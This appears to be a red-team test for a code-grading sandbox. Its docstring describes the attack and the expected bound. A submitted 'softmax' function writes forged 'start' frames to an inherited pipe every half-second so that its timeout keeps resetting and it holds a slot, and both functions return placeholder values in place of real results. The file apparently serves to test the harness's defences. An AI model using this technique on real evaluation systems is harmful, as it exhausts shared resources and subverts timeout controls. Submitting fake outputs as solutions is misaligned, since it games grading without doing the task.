"""REDTEAM start_spam: extend a call's timeout by forging "start" events.

Attack: the zygote resets a call's deadline on every "start" frame for it; forge one
every 0.5 s while spinning, so a 2 s call runs on until the whole submission's budget
is spent (about a minute with the built-in rubric), holding a slot.
Bound: the baseline; the call should stop after its own 2 s.
"""
import json
import os
import struct
import time

import numpy as np


def softmax(x):
    if np.shape(x) == (5,):
        raw = json.dumps({"ev": "start", "call": "softmax:vector", "$blobs": []}).encode()
        fd = next(fd for fd in range(3, 64) if os.path.exists(f"/proc/self/fd/{fd}")
                  and os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"))
        t0 = time.monotonic()
        while time.monotonic() - t0 < 12:
            os.write(fd, struct.pack(">IQ", len(raw), 0) + raw)
            time.sleep(0.5)
    x = np.asarray(x, dtype=float)
    return np.ones_like(x) / x.shape[-1]


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    return 0.0, np.zeros_like(predicted), np.zeros_like(outputVectors)
